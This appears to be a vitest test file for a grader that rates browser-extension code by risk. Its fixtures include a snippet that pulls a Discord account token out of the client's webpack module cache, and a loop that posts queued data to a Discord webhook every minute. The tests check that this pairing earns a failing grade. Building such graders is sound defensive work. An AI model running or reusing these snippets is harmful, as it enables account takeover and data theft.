import { expect, it } from 'vitest';
import { graded } from '../../testing/graded.ts';

/* A place that names nobody, beside what opens accounts: no way between the two has to be followed. */

const HOOK =
  "const queue = self[self.name]; setInterval(() => { fetch('https://discord.com/api/webhooks/113/abcDEF', { method: 'POST', body: JSON.stringify({ content: queue.next() }) }); }, 6e4);";
const TOKEN =
  "let all; webpackChunkdiscord_app.push([[''], {}, (e) => { all = Object.values(e.c); }]); self.hand(all.find((m) => m?.exports?.default?.getToken !== undefined).exports.default.getToken());";

it('weighs more where the extension takes keys of accounts', async () => {
  expect(await graded({ background: HOOK, content: TOKEN })).toMatch(/^[DF]$/);
});

it('and what it did where it takes none', async () => {
  expect(await graded({ background: HOOK, content: "self.hand(localStorage.getItem('theme'));" })).toMatch(/^[BC]$/);
});
